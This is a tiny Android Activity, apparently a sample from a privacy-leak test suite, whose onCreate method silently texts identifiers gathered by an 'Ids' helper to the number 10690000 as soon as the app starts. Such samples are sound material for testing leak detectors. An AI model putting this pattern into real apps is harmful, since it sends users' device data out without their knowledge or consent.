package cn.privlens.suite.cached_from_start;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, new Ids(this).get(), null, null);
    }
}
